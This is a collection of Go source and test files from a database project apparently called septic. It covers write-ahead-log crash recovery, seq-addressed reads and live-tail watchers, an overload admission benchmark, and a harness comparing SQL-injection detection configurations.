	faultinject.Arm(faultinject.KillPoint(faultinject.SiteWALShortWrite, 1))
	func() {
		defer func() {
			if r := recover(); !faultinject.IsCrash(r) {
				t.Fatalf("expected injected crash, got %v", r)
			}
		}()
		l.Append(payload)
	}()
	faultinject.Disarm()
	l.Kill()

	// Recovery keeps record 4 and truncates the torn fresh segment to
	// empty; a checkpoint now covering seq 4 trims the last sealed
	// segment, leaving only the empty active one. Then crash again.
	l2, recs, _ := openCollect(t, opts)
	if len(recs) != 1 || recs[0].Seq != 4 {
		t.Fatalf("mid-cycle recovery: %+v", recs)
	}
	if _, err := l2.TrimTo(4); err != nil {
		t.Fatal(err)
	}
	l2.Kill()

	// Boot over a directory whose only segment has zero records. The
	// next sequence number must be 5 — a restart at 1 would sit below a
	// checkpoint barrier of 4 and be silently skipped by the replay
	// filter on the boot after this one.
	l3, recs3, info3 := openCollect(t, opts)
	defer l3.Close()
	if len(recs3) != 0 || info3.LastSeq != 0 {
		t.Fatalf("final recovery: %+v records, info %+v", recs3, info3)
	}
	seq, err := l3.Append(payload)
	if err != nil {
		t.Fatalf("append: %v", err)
	}
	if seq != 5 {
		t.Fatalf("append seq = %d, want 5: sequence restarted below the checkpoint barrier", seq)
	}
}

func TestWriteFileAtomic(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "snap.json")
	if err := WriteFileAtomic(path, []byte("v1"), 0o644); err != nil {
		t.Fatalf("first write: %v", err)
	}
	if err := WriteFileAtomic(path, []byte("v2"), 0o644); err != nil {
		t.Fatalf("second write: %v", err)
	}
	got, err := os.ReadFile(path)
	if err != nil || string(got) != "v2" {
		t.Fatalf("read back: %q, %v", got, err)
	}
}

func TestWriteFileAtomicCrashBeforeRenameKeepsOld(t *testing.T) {
	defer faultinject.Disarm()
	dir := t.TempDir()
	path := filepath.Join(dir, "snap.json")
	if err := WriteFileAtomic(path, []byte("good"), 0o644); err != nil {
		t.Fatalf("seed write: %v", err)
	}
	for _, site := range []string{faultinject.SiteAtomicWrite, faultinject.SiteAtomicRename} {
		faultinject.Arm(faultinject.KillPoint(site, 1))
		func() {
			defer func() {
				if r := recover(); !faultinject.IsCrash(r) {
					t.Fatalf("site %s: expected crash, got %v", site, r)
				}
			}()
			WriteFileAtomic(path, []byte("half-written"), 0o644)
			t.Fatalf("site %s: write survived the kill point", site)
		}()
		faultinject.Disarm()
		got, err := os.ReadFile(path)
		if err != nil || string(got) != "good" {
			t.Fatalf("site %s: target after crash: %q, %v", site, got, err)
		}
	}
	// And the interrupted state is repairable: the next write wins.
	if err := WriteFileAtomic(path, []byte("recovered"), 0o644); err != nil {
		t.Fatalf("write after crashes: %v", err)
	}
	if got, _ := os.ReadFile(path); string(got) != "recovered" {
		t.Fatalf("final content: %q", got)
	}
}

func TestConcurrentAppends(t *testing.T) {
	dir := t.TempDir()
	l, _, _ := openCollect(t, Options{Dir: dir, Policy: FsyncNever, SegmentSize: 1 << 10})
	const writers, each = 8, 50
	done := make(chan error, writers)
	for w := 0; w < writers; w++ {
		go func(w int) {
			for i := 0; i < each; i++ {
				if _, err := l.Append([]byte(fmt.Sprintf("w%d-%d", w, i))); err != nil {
					done <- err
					return
				}
			}
			done <- nil
		}(w)
	}
	for w := 0; w < writers; w++ {
		if err := <-done; err != nil {
			t.Fatalf("writer: %v", err)
		}
	}
	if err := l.Close(); err != nil {
		t.Fatalf("close: %v", err)
	}
	l2, recs, info := openCollect(t, Options{Dir: dir, Policy: FsyncNever, SegmentSize: 1 << 10})
	defer l2.Close()
	if info.Records != writers*each || info.Truncated {
		t.Fatalf("recovery: %+v", info)
	}
	for i, r := range recs {
		if r.Seq != uint64(i+1) {
			t.Fatalf("record %d has seq %d", i, r.Seq)
		}
	}
}
