package wal

// read.go — seq-addressed reads and live-tail subscriptions over an open
// log. Both exist for replication (internal/repl): a primary serves its
// WAL history to replicas with ReadFrom and pushes freshly acknowledged
// records to them through Watch, so a replica can catch up from any
// sequence number the log still retains and then follow the tail with
// no gap in between (register the watcher first, then read — a record
// appended during the catch-up read is either in the read result or in
// the watcher channel, never in neither).

import (
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"os"
)

// DefaultReadBatchBytes bounds one ReadFrom result when the caller
// passes maxBytes <= 0.
const DefaultReadBatchBytes = 1 << 20

// FirstSeq returns the sequence number of the oldest record the log
// still retains, or 0 when the log holds no records at all. After a
// checkpoint trim the history starts past 1; a caller that needs
// records older than FirstSeq must obtain them from a snapshot instead.
func (l *Log) FirstSeq() uint64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	if len(l.sealed) > 0 {
		return l.sealed[0].first
	}
	if l.size > 0 {
		return l.first
	}
	return 0
}

// ReadFrom returns records with sequence numbers strictly greater than
// after, in order, stopping once roughly maxBytes of payload have been
// collected (maxBytes <= 0 means DefaultReadBatchBytes; at least one
// record is always returned when any qualifies). The result may start
// past after+1 when a checkpoint has trimmed the intervening history —
// callers detect the gap by comparing the first record's sequence
// number against after+1 and fall back to a snapshot.
//
// ReadFrom re-reads the segment files, validating every frame's CRC on
// the way — a replication stream must never forward bytes the log
// cannot vouch for. It holds the log's mutex for the duration, so it is
// a control-path operation (replica catch-up), not a hot-path one.
func (l *Log) ReadFrom(after uint64, maxBytes int) ([]Record, error) {
	if maxBytes <= 0 {
		maxBytes = DefaultReadBatchBytes
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.closed {
		return nil, ErrClosed
	}
	if l.seq <= after {
		return nil, nil // caught up: nothing newer exists
	}
	var out []Record
	total := 0
	for _, seg := range l.sealed {
		if seg.last <= after {
			continue
		}
		var done bool
		var err error
		out, total, done, err = readSegmentFrom(seg.path, -1, after, maxBytes, out, total)
		if err != nil {
			return nil, err
		}
		if done {
			return out, nil
		}
	}
	if l.size > 0 {
		// The active segment is read only up to the bytes Append has
		// completed (l.size): with the mutex held no frame is in flight,
		// and a poisoned log's torn tail bytes sit beyond l.size.
		var err error
		out, total, _, err = readSegmentFrom(
			segmentPath(l.opts.Dir, l.first), l.size, after, maxBytes, out, total)
		if err != nil {
			return nil, err
		}
	}
	return out, nil
}

// segmentPath renders the file path of the segment whose first record
// has sequence number first.
func segmentPath(dir string, first uint64) string {
	return dir + string(os.PathSeparator) + segmentName(first)
}

// readSegmentFrom scans one segment file, appending records with
// sequence numbers > after to out until total payload bytes reach
// maxBytes. limit bounds the bytes considered (-1 = whole file). done
// reports that the byte budget was hit with at least one record taken.
func readSegmentFrom(path string, limit int64, after uint64, maxBytes int,
	out []Record, total int) ([]Record, int, bool, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return out, total, false, fmt.Errorf("wal: read segment: %w", err)
	}
	if limit >= 0 && int64(len(data)) > limit {
		data = data[:limit]
	}
	off := 0
	for len(data)-off >= frameHeaderSize {
		sum := binary.LittleEndian.Uint32(data[off : off+4])
		length := binary.LittleEndian.Uint32(data[off+4 : off+8])
		seq := binary.LittleEndian.Uint64(data[off+8 : off+16])
		if length == 0 || length > MaxRecordSize {
			return out, total, false, fmt.Errorf("wal: read %s: invalid frame length", path)
		}
		end := off + frameHeaderSize + int(length)
		if end > len(data) {
			break // torn tail: recovery's problem, not the reader's
		}
		if crc32.Checksum(data[off+4:end], castagnoli) != sum {
			return out, total, false, fmt.Errorf("wal: read %s: frame checksum mismatch", path)
		}
		if seq > after {
			payload := make([]byte, length)
			copy(payload, data[off+frameHeaderSize:end])
			out = append(out, Record{Seq: seq, Data: payload})
			total += int(length)
			if total >= maxBytes {
				return out, total, true, nil
			}
		}
		off = end
	}
	return out, total, false, nil
}

// Watcher is a live-tail subscription: every record appended after
// Watch returns is sent to C, in order. The channel is bounded; a
// subscriber that falls behind loses records and the Lagged flag trips
// — the subscriber then re-reads the missed range with ReadFrom, which
// is why a lost notification is a latency event, never a correctness
// one.
type Watcher struct {
	l  *Log
	ch chan Record
	// lagged is set (under l.mu) when a send would have blocked.
	lagged bool
	closed bool
}

// C returns the subscription channel. It is closed by Watcher.Close and
// by Log.Close/Kill.
func (w *Watcher) C() <-chan Record { return w.ch }

// Lagged reports — and clears — whether the watcher dropped records
// because its channel was full. After a true return the subscriber must
// ReadFrom to recover the missed range.
func (w *Watcher) Lagged() bool {
	w.l.mu.Lock()
	defer w.l.mu.Unlock()
	lagged := w.lagged
	w.lagged = false
	return lagged
}

// Close ends the subscription and closes its channel.
func (w *Watcher) Close() {
	w.l.mu.Lock()
	defer w.l.mu.Unlock()
	w.closeLocked()
}

// closeLocked detaches and closes the watcher. Caller holds l.mu, which
// is what makes closing the channel safe: notifies also run under l.mu,
// so no send can race the close.
func (w *Watcher) closeLocked() {
	if w.closed {
		return
	}
	w.closed = true
	for i, ww := range w.l.watchers {
		if ww == w {
			w.l.watchers = append(w.l.watchers[:i], w.l.watchers[i+1:]...)
			break
		}
	}
	close(w.ch)
}

// Watch subscribes to the live tail: every record appended from now on
// is delivered to the returned watcher's channel (buffered to buf
// records, minimum 1). Subscribe BEFORE reading history with ReadFrom
// and the two dovetail without a gap. Returns nil on a closed log.
func (l *Log) Watch(buf int) *Watcher {
	if buf < 1 {
		buf = 1
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.closed {
		return nil
	}
	w := &Watcher{l: l, ch: make(chan Record, buf)}
	l.watchers = append(l.watchers, w)
	return w
}

// notifyWatchers delivers one freshly appended record to every
// subscriber. Caller holds l.mu (Append does). The payload is copied
// once, shared by all subscribers — Record data is read-only by
// contract.
func (l *Log) notifyWatchers(seq uint64, data []byte) {
	if len(l.watchers) == 0 {
		return
	}
	cp := make([]byte, len(data))
	copy(cp, data)
	rec := Record{Seq: seq, Data: cp}
	for _, w := range l.watchers {
		select {
		case w.ch <- rec:
		default:
			w.lagged = true
		}
	}
}

// closeWatchersLocked ends every subscription; Close and Kill call it so
// a tail follower sees end-of-stream instead of blocking forever on a
// dead log. Caller holds l.mu.
func (l *Log) closeWatchersLocked() {
	for len(l.watchers) > 0 {
		l.watchers[0].closeLocked()
	}
}
