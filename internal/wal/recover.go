package wal

import (
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"syscall"
)

// Record is one recovered WAL entry.
type Record struct {
	Seq  uint64
	Data []byte
}

// RecoveryInfo reports what recovery found and what it had to discard.
// Everything here is observable on /metrics so a truncated tail is an
// operator-visible incident, never a silent one.
type RecoveryInfo struct {
	// Segments is the number of segment files scanned.
	Segments int
	// Records is the number of valid records replayed.
	Records int
	// TornSegments counts segments whose tail failed validation and was
	// truncated (1 after a normal crash mid-append; more only after
	// corruption).
	TornSegments int
	// DroppedRecords counts records that parsed cleanly but were
	// discarded because they sat beyond a mid-log tear. Only a
	// ForceRecover open can make this nonzero: the default refuses
	// mid-log damage with ErrMidLogCorrupt instead of dropping.
	DroppedRecords int
	// DroppedBytes counts bytes discarded by truncation.
	DroppedBytes int64
	// Truncated reports whether any file was rewritten; a second
	// recovery of the same directory reports false — the convergence
	// property the chaos suite asserts.
	Truncated bool
	// FirstSeq and LastSeq bound the recovered sequence numbers (0,0
	// when the log was empty).
	FirstSeq, LastSeq uint64
}

// segmentScan is the outcome of validating one segment file.
type segmentScan struct {
	records  []Record
	validLen int64 // bytes of valid frames from the start of the file
	torn     bool  // bytes beyond validLen failed validation
	total    int64 // file size
}

// scanSegment validates path frame by frame. expectSeq is the sequence
// number the first record must carry (0 = accept any, for the first
// segment of a trimmed log); within the segment records must be
// contiguous. Scanning stops at the first invalid frame — short header,
// lying length, CRC mismatch, or sequence break — and everything before
// it is returned as valid.
func scanSegment(path string, expectSeq uint64) (segmentScan, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return segmentScan{}, err
	}
	s := segmentScan{total: int64(len(data))}
	off := 0
	for {
		if len(data)-off < frameHeaderSize {
			s.torn = off < len(data)
			break
		}
		sum := binary.LittleEndian.Uint32(data[off : off+4])
		length := binary.LittleEndian.Uint32(data[off+4 : off+8])
		seq := binary.LittleEndian.Uint64(data[off+8 : off+16])
		if length == 0 || length > MaxRecordSize {
			s.torn = true // lying length: never trust it past the cap
			break
		}
		if seq == 0 {
			s.torn = true // sequence numbers start at 1
			break
		}
		end := off + frameHeaderSize + int(length)
		if end > len(data) {
			s.torn = true // frame runs past EOF: the classic torn tail
			break
		}
		if crc32.Checksum(data[off+4:end], castagnoli) != sum {
			s.torn = true
			break
		}
		if expectSeq != 0 && seq != expectSeq {
			s.torn = true // gap or repeat: ordering guarantee broken
			break
		}
		payload := make([]byte, length)
		copy(payload, data[off+frameHeaderSize:end])
		s.records = append(s.records, Record{Seq: seq, Data: payload})
		expectSeq = seq + 1
		off = end
		s.validLen = int64(off)
	}
	return s, nil
}

// nameSeq extracts the first sequence number encoded in a segment file
// name (0 for a name listSegments would have rejected).
func nameSeq(name string) uint64 {
	n, _ := strconv.ParseUint(strings.TrimSuffix(name, segmentSuffix), 10, 64)
	return n
}

// listSegments returns the directory's segment files sorted by the
// first sequence number encoded in their names; files with unparsable
// names are ignored.
func listSegments(dir string) ([]string, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	var names []string
	for _, e := range entries {
		name := e.Name()
		if e.IsDir() || !strings.HasSuffix(name, segmentSuffix) {
			continue
		}
		if _, err := strconv.ParseUint(strings.TrimSuffix(name, segmentSuffix), 10, 64); err != nil {
			continue
		}
		names = append(names, name)
	}
	sort.Strings(names) // zero-padded decimal: lexicographic == numeric
	return names, nil
}

// lockDir takes the directory's exclusive advisory lock, failing fast
// with ErrLocked when another log — in this process or any other —
// already holds it. The kernel releases the flock when the holding
// process exits, so a crashed daemon never leaves a stale lock.
func lockDir(dir string) (*os.File, error) {
	f, err := os.OpenFile(filepath.Join(dir, lockFileName), os.O_CREATE|os.O_RDWR, 0o644)
	if err != nil {
		return nil, fmt.Errorf("wal: open lock file: %w", err)
	}
	if err := syscall.Flock(int(f.Fd()), syscall.LOCK_EX|syscall.LOCK_NB); err != nil {
		f.Close()
		return nil, fmt.Errorf("%w: %s (flock: %v)", ErrLocked, dir, err)
	}
	return f, nil
}

// Open recovers the log directory and opens it for appending, holding
// the directory's exclusive lock until Close (or process death). Every
// valid record is passed to apply in sequence order (apply may be nil
// to skip replay); an apply error aborts Open. Recovery truncates a
// torn tail of the newest segment in place — expected crash debris —
// but refuses mid-log damage with ErrMidLogCorrupt unless
// Options.ForceRecover explicitly accepts dropping everything beyond
// it. The returned log appends after the last valid record, or after
// the active segment's name-encoded floor when the segment holds none.
func Open(opts Options, apply func(Record) error) (*Log, RecoveryInfo, error) {
	opts = opts.withDefaults()
	if err := os.MkdirAll(opts.Dir, 0o755); err != nil {
		return nil, RecoveryInfo{}, fmt.Errorf("wal: create dir: %w", err)
	}
	lock, err := lockDir(opts.Dir)
	if err != nil {
		return nil, RecoveryInfo{}, err
	}
	l, info, err := openLocked(opts, apply)
	if err != nil {
		lock.Close()
		return nil, info, err
	}
	l.lock = lock
	return l, info, nil
}

// openLocked is Open's body once the directory lock is held.
func openLocked(opts Options, apply func(Record) error) (*Log, RecoveryInfo, error) {
	var info RecoveryInfo
	names, err := listSegments(opts.Dir)
	if err != nil {
		return nil, info, fmt.Errorf("wal: list segments: %w", err)
	}

	l := &Log{opts: opts}
	expect := uint64(0) // next sequence the chain of records demands
	tornAt := -1        // index of the first torn segment
	scans := make([]segmentScan, 0, len(names))
	for i, name := range names {
		path := filepath.Join(opts.Dir, name)
		if tornAt >= 0 {
			// Past a forced-recovery torn point: records may parse but
			// their contiguity with the acknowledged history is gone —
			// scan with no sequence expectation purely to count what the
			// drop discards.
			scan, err := scanSegment(path, 0)
			if err != nil {
				return nil, info, fmt.Errorf("wal: scan %s: %w", name, err)
			}
			scans = append(scans, scan)
			info.Segments++
			info.DroppedRecords += len(scan.records)
			info.DroppedBytes += scan.total
			continue
		}
		if expect == 0 {
			// No expectation from the chain yet (oldest segment of a
			// trimmed log, or everything before was empty): the name
			// encodes the sequence the segment's first record must carry.
			expect = nameSeq(name)
		}
		scan, err := scanSegment(path, expect)
		if err != nil {
			return nil, info, fmt.Errorf("wal: scan %s: %w", name, err)
		}
		scans = append(scans, scan)
		info.Segments++
		if scan.torn && i < len(names)-1 && !opts.ForceRecover {
			// Invalid frames with intact segments after them: a crash only
			// ever tears the newest segment (rotation fsyncs before moving
			// on), so this is real damage, and truncating here would drop
			// the acknowledged records in those later segments.
			return nil, info, fmt.Errorf(
				"%w: segment %s is damaged but %d later segment(s) exist; remove or repair it, or open with ForceRecover to truncate and drop everything after it",
				ErrMidLogCorrupt, name, len(names)-1-i)
		}
		for _, rec := range scan.records {
			if info.FirstSeq == 0 {
				info.FirstSeq = rec.Seq
			}
			info.LastSeq = rec.Seq
			if apply != nil {
				if err := apply(rec); err != nil {
					return nil, info, fmt.Errorf("wal: replay seq %d: %w", rec.Seq, err)
				}
			}
			info.Records++
		}
		if scan.torn {
			tornAt = i
			info.TornSegments++
			info.DroppedBytes += scan.total - scan.validLen
		} else {
			expect = 0
			if len(scan.records) > 0 {
				expect = scan.records[len(scan.records)-1].Seq + 1
			}
		}
	}

	// Repair the directory: truncate the torn segment to its valid
	// prefix and delete everything after it.
	if tornAt >= 0 {
		info.Truncated = true
		path := filepath.Join(opts.Dir, names[tornAt])
		if err := os.Truncate(path, scans[tornAt].validLen); err != nil {
			return nil, info, fmt.Errorf("wal: truncate %s: %w", names[tornAt], err)
		}
		for _, name := range names[tornAt+1:] {
			if err := os.Remove(filepath.Join(opts.Dir, name)); err != nil {
				return nil, info, fmt.Errorf("wal: drop %s: %w", name, err)
			}
		}
		if err := syncDir(opts.Dir); err != nil {
			return nil, info, fmt.Errorf("wal: sync dir: %w", err)
		}
		names = names[:tornAt+1]
		scans = scans[:tornAt+1]
	}

	// Seal every segment but the last; reopen the last for appending.
	l.seq = info.LastSeq
	for i, name := range names {
		first := nameSeq(name)
		path := filepath.Join(opts.Dir, name)
		if i < len(names)-1 {
			last := first - 1
			if n := len(scans[i].records); n > 0 {
				last = scans[i].records[n-1].Seq
			}
			l.sealed = append(l.sealed, segmentInfo{path: path, first: first, last: last})
			continue
		}
		f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0o644)
		if err != nil {
			return nil, info, fmt.Errorf("wal: open active segment: %w", err)
		}
		l.f = f
		l.first = first
		l.size = scans[i].validLen
		if first > 0 && first-1 > l.seq {
			// The active segment may legitimately hold zero valid records
			// — a crash right after rotation, or a fully-torn first frame
			// truncated above — yet its name still encodes the sequence
			// its first record must carry. Seeding from replayed records
			// alone would restart numbering below a checkpoint barrier
			// after a trim, and the next boot's seq-filtered replay would
			// silently skip the new appends: the name is the durable
			// floor.
			l.seq = first - 1
		}
	}
	if l.f == nil {
		// Empty directory: create the first segment.
		path := filepath.Join(opts.Dir, segmentName(1))
		f, err := os.OpenFile(path, os.O_CREATE|os.O_EXCL|os.O_WRONLY, 0o644)
		if err != nil {
			return nil, info, fmt.Errorf("wal: create first segment: %w", err)
		}
		if err := syncDir(opts.Dir); err != nil {
			f.Close()
			return nil, info, fmt.Errorf("wal: sync dir: %w", err)
		}
		l.f = f
		l.first = 1
	}

	if opts.Policy == FsyncInterval {
		l.stopc = make(chan struct{})
		l.syncDone = make(chan struct{})
		go l.runIntervalSync()
	}
	return l, info, nil
}
