// Package overloadbench measures the adaptive overload controls the way
// wirebench measures the protocol: a loopback wire deployment with a
// known per-query service time (injected into the executor) and a known
// execution capacity is driven at a sweep of offered-load multiples of
// that capacity, and each multiple reports what the admission controller
// did — how much was admitted, how much was shed, and the latency of the
// admitted requests.
//
// The point of the fixture is the brownout claim: at 4× capacity a
// server WITHOUT admission control queues without bound and every
// request's latency grows with the backlog; with the controller the
// shed rate absorbs the excess and the ADMITTED requests' p99 stays
// pinned near the shed target instead of the backlog depth.
//
// It lives in a subpackage because benchlab itself cannot import
// internal/wire (the wire chaos tests deploy benchlab apps — the
// reverse import would be a cycle).
package overloadbench

import (
	"errors"
	"fmt"
	"math"
	"sort"
	"sync"
	"time"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/faultinject"
	"github.com/septic-db/septic/internal/overload"
	"github.com/septic-db/septic/internal/wire"
)

// Params shapes one overload sweep.
type Params struct {
	// ServiceTime is the injected executor latency per query — the
	// fixture's known service cost (default 2ms).
	ServiceTime time.Duration
	// Gate is the server's concurrent-execution capacity; together with
	// ServiceTime it fixes the deployment's saturation throughput
	// Gate/ServiceTime queries per second (default 4).
	Gate int
	// Target is the admission controller's queueing-delay target
	// (default 5ms).
	Target time.Duration
	// Clients is the number of concurrent wire connections generating
	// the offered load (default 64).
	Clients int
	// Duration is the measured window per multiplier (default 2s).
	Duration time.Duration
	// Multipliers are the offered-load multiples of capacity to sweep
	// (default 1, 2, 4).
	Multipliers []int
}

func (p *Params) setDefaults() {
	if p.ServiceTime <= 0 {
		p.ServiceTime = 2 * time.Millisecond
	}
	if p.Gate <= 0 {
		p.Gate = 4
	}
	if p.Target <= 0 {
		p.Target = 5 * time.Millisecond
	}
	if p.Clients <= 0 {
		p.Clients = 64
	}
	if p.Duration <= 0 {
		p.Duration = 2 * time.Second
	}
	if len(p.Multipliers) == 0 {
		p.Multipliers = []int{1, 2, 4}
	}
}

// CapacityQPS returns the deployment's saturation throughput.
func (p *Params) CapacityQPS() float64 {
	return float64(p.Gate) / p.ServiceTime.Seconds()
}

// Row is one measured offered-load point.
type Row struct {
	// Multiplier is the offered load as a multiple of capacity.
	Multiplier int `json:"multiplier"`
	// OfferedQPS is the paced request rate across all clients.
	OfferedQPS float64 `json:"offered_qps"`
	// Sent counts requests issued; Admitted those that executed; Shed
	// the typed overload rejections; Errors everything else (must be 0).
	Sent     int64 `json:"sent"`
	Admitted int64 `json:"admitted"`
	Shed     int64 `json:"shed"`
	Errors   int64 `json:"errors"`
	// P50/P99 are admitted-request latencies in nanoseconds.
	P50 time.Duration `json:"p50_ns"`
	P99 time.Duration `json:"p99_ns"`
}

// ShedRate returns the shed fraction of sent requests.
func (r *Row) ShedRate() float64 {
	if r.Sent == 0 {
		return 0
	}
	return float64(r.Shed) / float64(r.Sent)
}

// Run sweeps the offered-load multipliers, one fresh deployment each
// (so a saturated run's controller state never bleeds into the next),
// and returns one row per multiplier. The executor latency is injected
// via faultinject for the duration of the sweep.
func Run(p Params) ([]Row, error) {
	p.setDefaults()
	faultinject.Arm(func(site string) {
		if site == faultinject.SiteEngineExecute {
			time.Sleep(p.ServiceTime)
		}
	})
	defer faultinject.Disarm()

	rows := make([]Row, 0, len(p.Multipliers))
	for _, m := range p.Multipliers {
		row, err := runOne(p, m)
		if err != nil {
			return nil, fmt.Errorf("multiplier %d: %w", m, err)
		}
		rows = append(rows, row)
	}
	return rows, nil
}

// runOne measures one offered-load point against a fresh deployment.
func runOne(p Params, multiplier int) (Row, error) {
	guard := core.New(core.Config{Mode: core.ModeTraining})
	db := engine.New(engine.WithQueryHook(guard))
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		return Row{}, err
	}
	adm := overload.NewAdmission(overload.AdmissionOptions{
		Target:   p.Target,
		Capacity: p.Gate,
	})
	srv := wire.NewServer(db, wire.WithAdmission(adm))
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		return Row{}, err
	}
	defer srv.Close()

	clients := make([]*wire.Client, p.Clients)
	for i := range clients {
		c, err := wire.Dial(addr)
		if err != nil {
			return Row{}, fmt.Errorf("dial client %d: %w", i, err)
		}
		defer c.Close()
		clients[i] = c
	}

	offered := float64(multiplier) * p.CapacityQPS()
	// Each client paces at clients/offered: the fleet sums to the
	// offered rate. Pacing is open-loop — a client that fell behind
	// (because an admitted request queued) fires immediately rather
	// than stretching the schedule, so overload pressure is sustained.
	period := time.Duration(float64(p.Clients) / offered * float64(time.Second))

	type tally struct {
		sent, admitted, shed, errs int64
		lat                        []time.Duration
	}
	tallies := make([]tally, p.Clients)
	var wg sync.WaitGroup
	for i, c := range clients {
		wg.Add(1)
		go func(i int, c *wire.Client) {
			defer wg.Done()
			tl := &tallies[i]
			start := time.Now()
			// Stagger the client phases across one period: in-phase
			// clients would deliver the whole fleet as one synchronized
			// burst per tick, measuring burst absorption instead of the
			// sustained offered rate.
			next := start.Add(period * time.Duration(i) / time.Duration(p.Clients))
			for {
				if sleep := time.Until(next); sleep > 0 {
					time.Sleep(sleep)
				}
				if time.Since(start) >= p.Duration {
					return
				}
				next = next.Add(period)
				t0 := time.Now()
				_, err := c.Exec("SELECT id FROM t")
				tl.sent++
				switch {
				case err == nil:
					tl.admitted++
					tl.lat = append(tl.lat, time.Since(t0))
				case errors.Is(err, wire.ErrOverloaded):
					tl.shed++
				default:
					tl.errs++
				}
			}
		}(i, c)
	}
	wg.Wait()

	row := Row{Multiplier: multiplier, OfferedQPS: offered}
	var lat []time.Duration
	for i := range tallies {
		row.Sent += tallies[i].sent
		row.Admitted += tallies[i].admitted
		row.Shed += tallies[i].shed
		row.Errors += tallies[i].errs
		lat = append(lat, tallies[i].lat...)
	}
	row.P50 = percentile(lat, 0.50)
	row.P99 = percentile(lat, 0.99)
	return row, nil
}

// percentile returns the q-quantile of the sample (nearest-rank).
func percentile(lat []time.Duration, q float64) time.Duration {
	if len(lat) == 0 {
		return 0
	}
	sort.Slice(lat, func(i, j int) bool { return lat[i] < lat[j] })
	idx := int(math.Ceil(q*float64(len(lat)))) - 1
	if idx < 0 {
		idx = 0
	}
	if idx >= len(lat) {
		idx = len(lat) - 1
	}
	return lat[idx]
}
