package overloadbench

import (
	"testing"
	"time"
)

// TestRunSweep drives a miniature sweep and holds the fixture to its
// contract: no untyped errors, overload at 4× is actually shed, and the
// admitted requests' tail latency does not collapse into the backlog.
func TestRunSweep(t *testing.T) {
	rows, err := Run(Params{
		ServiceTime: time.Millisecond,
		Gate:        2,
		Target:      3 * time.Millisecond,
		Clients:     16,
		Duration:    300 * time.Millisecond,
		Multipliers: []int{1, 4},
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 {
		t.Fatalf("rows = %d, want 2", len(rows))
	}
	for _, r := range rows {
		if r.Errors != 0 {
			t.Errorf("multiplier %d: %d untyped errors", r.Multiplier, r.Errors)
		}
		if r.Sent == 0 || r.Admitted == 0 {
			t.Errorf("multiplier %d: sent=%d admitted=%d — fixture generated no load",
				r.Multiplier, r.Sent, r.Admitted)
		}
	}
	over := rows[1]
	if over.Shed == 0 {
		t.Error("4× capacity shed nothing — admission ineffective")
	}
	if rate := over.ShedRate(); rate >= 1 {
		t.Errorf("4× shed rate %.2f — nothing admitted under overload", rate)
	}
	if over.P99 <= 0 {
		t.Error("no admitted latency sample at 4×")
	}
}

func TestPercentile(t *testing.T) {
	lat := []time.Duration{5, 1, 4, 2, 3}
	if got := percentile(lat, 0.5); got != 3 {
		t.Errorf("p50 = %v, want 3", got)
	}
	if got := percentile(lat, 0.99); got != 5 {
		t.Errorf("p99 = %v, want 5", got)
	}
	if got := percentile(nil, 0.5); got != 0 {
		t.Errorf("empty percentile = %v, want 0", got)
	}
}
