package benchlab

import (
	"github.com/septic-db/septic/internal/webapp/apps"
)

// PaperSpecs returns the three §II-F applications with their recorded
// workloads (12, 14 and 26 requests), in the order the figure lists
// them.
func PaperSpecs() []AppSpec {
	return []AppSpec{
		{
			Name:     "Address Book",
			Prefix:   "ab",
			Schema:   apps.AddressBookSchema(),
			Build:    apps.NewAddressBook,
			Training: apps.AddressBookTraining(),
			Workload: apps.AddressBookWorkload(),
		},
		{
			Name:     "refbase",
			Prefix:   "rb",
			Schema:   apps.RefbaseSchema(),
			Build:    apps.NewRefbase,
			Training: apps.RefbaseTraining(),
			Workload: apps.RefbaseWorkload(),
		},
		{
			Name:     "ZeroCMS",
			Prefix:   "cms",
			Schema:   apps.ZeroCMSSchema(),
			Build:    apps.NewZeroCMS,
			Training: apps.ZeroCMSTraining(),
			Workload: apps.ZeroCMSWorkload(),
		},
	}
}

// WaspMonSpec returns the §III scenario application as a harness spec
// (used by the extra scalability sweeps).
func WaspMonSpec() AppSpec {
	return AppSpec{
		Name:     "WaspMon",
		Prefix:   "waspmon",
		Schema:   apps.WaspMonSchema(),
		Build:    apps.NewWaspMon,
		Training: apps.WaspMonTraining(),
		Workload: apps.WaspMonWorkload(),
	}
}
