// Package benchlab reimplements the measurement harness of the paper's
// performance study (§II-F): BenchLab, the web-application benchmarking
// testbed used to replay recorded browser workloads against the
// applications and measure request latency.
//
// The paper's deployment — four client machines running up to five
// browsers each, replaying per-application request traces in a loop —
// maps onto goroutine "browsers" grouped into "machines", replaying the
// recorded workloads of internal/webapp/apps against an in-process
// deployment. Absolute numbers are not comparable to the paper's 2005-era
// Pentium 4 cluster and are not claimed; the reported metric is the same
// as Fig. 5's: average latency overhead relative to the no-SEPTIC
// baseline, for each of the four SEPTIC detection configurations.
package benchlab

import (
	"crypto/sha256"
	"fmt"
	"io"
	"net/http/httptest"
	"net/url"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/obs"
	"github.com/septic-db/septic/internal/webapp"
)

// SepticConfig names the four on/off combinations of §II-F plus the
// no-SEPTIC baseline.
type SepticConfig int

// Configurations of Fig. 5. NN/YN/NY/YY encode (SQLI, stored) detection.
const (
	ConfigBaseline SepticConfig = iota + 1 // original engine, no hook
	ConfigNN                               // SEPTIC installed, both detections off
	ConfigYN                               // SQLI on, stored off
	ConfigNY                               // SQLI off, stored on
	ConfigYY                               // both on
)

// String names the configuration as the figure does.
func (c SepticConfig) String() string {
	switch c {
	case ConfigBaseline:
		return "base"
	case ConfigNN:
		return "NN"
	case ConfigYN:
